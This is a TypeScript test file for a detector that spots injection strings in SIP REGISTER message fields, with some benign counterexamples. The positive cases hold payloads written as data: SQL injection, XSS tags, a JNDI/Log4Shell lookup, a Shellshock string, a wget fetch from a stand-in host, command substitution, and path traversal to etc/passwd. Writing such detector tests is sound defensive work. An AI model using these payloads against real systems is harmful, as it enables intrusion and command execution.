import { describe, expect, it } from "vitest";
import { SipMessageView } from "../../../../src/decode/sip/message.ts";
import {
  INJECTION_PATTERNS,
  injectionIn,
} from "../../../../src/track/content/injection-strings.ts";

interface Fields {
  readonly uri?: string;
  readonly from?: string;
  readonly userAgent?: string;
}

function found({ uri = "sip:pbx", from = "<sip:201@pbx>", userAgent = "Phone 1" }: Fields) {
  const bytes = Buffer.from(
    `REGISTER ${uri} SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK1\r\nFrom: ${from};tag=1\r\n` +
      `To: <sip:201@pbx>\r\nCall-ID: 1\r\nCSeq: 1 REGISTER\r\nUser-Agent: ${userAgent}\r\nContent-Length: 0\r\n\r\n`,
    "latin1",
  );
  const message = new SipMessageView();
  expect(message.decode(bytes, 0, bytes.length, false)).toBe(true);
  return injectionIn(message)?.name ?? null;
}

describe("injected texts", () => {
  it.each(INJECTION_PATTERNS.map(({ name, example }) => [name, example]))(
    "%s: %s matches its own pattern",
    (name, example) => {
      const row = INJECTION_PATTERNS.find((pattern) => pattern.name === name);
      const text = decodeURIComponent(example.replace(/%(?![0-9a-f]{2})/gi, "%25")).toLowerCase();
      expect(row?.pattern.test(text)).toBe(true);
    },
  );

  it.each([
    [{ uri: "sip:100'%20or%201=1@pbx" }],
    [{ uri: "sip:100%27%20or%201=1@pbx" }],
    [{ from: '"admin\'--" <sip:1@pbx>' }],
    [{ userAgent: "x'; DROP TABLE subscriber" }],
    [{ from: '"<script>alert(1)</script>" <sip:1@pbx>' }],
    [{ from: '"<img src=x onerror=alert(1)>" <sip:1@pbx>' }],
    [{ uri: "sip:$" + "{jndi:ldap://x.example/a}@pbx" }],
    [{ userAgent: "() { :;}; /bin/bash -c id" }],
    [{ userAgent: "a; wget http://x.example/a" }],
    [{ userAgent: "$(reboot)" }],
    [{ userAgent: "%s%s%s%n" }],
    [{ uri: "sip:..%2f..%2fetc%2fpasswd@pbx" }],
    [{ uri: "sip:100%00@pbx" }],
  ])("are found in %j", (fields) => {
    expect(found(fields)).not.toBeNull();
  });

  it.each([
    [{ from: '"Pat O\'Brien" <sip:201@pbx>' }],
    [{ from: '"Miles O\'Brien or Kira" <sip:201@pbx>' }],
    [{ uri: "sip:john%20doe@pbx;user=phone;transport=udp" }],
    [{ uri: "sip:%2b49301234@pbx;nc=1;id=7" }],
    [{ userAgent: "Grandstream GXP2160 1.0.11.6 (x64; build 3)" }],
    [{ userAgent: "Linphone/5.1 {android}; Pixel" }],
    [{ from: '"Script & Sons" <sip:img@pbx>' }],
    [{ from: '"100 % sicher" <sip:201@pbx>' }],
    [{ uri: "sip:union-select@pbx" }],
  ])("are not found in %j", (fields) => {
    expect(found(fields)).toBeNull();
  });
});
